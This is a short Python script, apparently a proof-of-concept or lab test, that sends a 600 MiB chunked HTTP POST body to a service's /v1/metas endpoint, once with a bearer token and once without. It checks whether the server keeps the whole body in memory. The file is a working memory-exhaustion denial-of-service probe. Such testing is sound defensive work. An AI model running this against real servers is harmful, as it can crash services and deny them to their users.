"""Sends a body of 600 MiB with the token, and one without it, hoping that all of it is kept in memory."""

import contextlib
import socket

from victim import TOKEN, attack

PIECE = b"100000\r\n" + bytes(1 << 20) + b"\r\n"


def pour(address: tuple[str, int], token: str) -> int:
    """How many MiB went in."""
    sent = 0
    with socket.create_connection(address, timeout=5.0) as connection, contextlib.suppress(OSError):
        head = f"POST /v1/metas HTTP/1.1\r\nHost: rank\r\nAuthorization: Bearer {token}\r\nTransfer-Encoding: chunked"
        connection.sendall(f"{head}\r\n\r\n".encode())
        while sent < 600:
            connection.sendall(PIECE)
            sent += 1
    return sent


attack(lambda address: f"{pour(address, TOKEN)} MiB went in with the token, {pour(address, 'none')} MiB without")
